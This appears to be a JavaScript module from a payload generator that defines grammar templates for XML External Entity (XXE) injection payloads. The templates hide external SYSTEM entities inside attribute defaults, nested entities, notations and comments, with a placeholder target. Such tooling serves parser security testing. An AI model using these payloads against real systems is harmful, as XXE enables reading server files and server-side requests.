import { xxeGenerator } from '../xxe-generator.js';

/** Entities inside of attributes, defaults and other entities. */
export const attributeDefault = xxeGenerator({
  name: 'attribute-default',
  rules: {
    start: [
      '{declaration}{break}<!DOCTYPE {root:r} [<!ENTITY % {entity:e} SYSTEM {q:q}{target}{q:q}>{break}<!ATTLIST {root:r} {child} CDATA "{letters}">%{entity:e};]><{root:r}/>',
      '{declaration}<!DOCTYPE {root:r} [<!ENTITY {letters:a} SYSTEM {q:q}{target}{q:q}><!ENTITY {letters:b} "{letters}&{letters:a};">]><{root:r}><{child:c}>&{letters:b};</{child:c}></{root:r}>',
      '{declaration}<!DOCTYPE {root:r} [<!NOTATION {letters:n} SYSTEM "{letters}"><!ENTITY {entity:e} SYSTEM {q:q}{target}{q:q}>]><{root:r}>&{entity:e};</{root:r}>',
      '{declaration}<!-- {letters} -->{break}<!DOCTYPE {root:r} [<!-- {letters} --><?{letters} {letters}?><!ENTITY {entity:e} SYSTEM {q:q}{target}{q:q}><!-- x -->]><{root:r}>&{entity:e};</{root:r}>',
    ],
  },
});
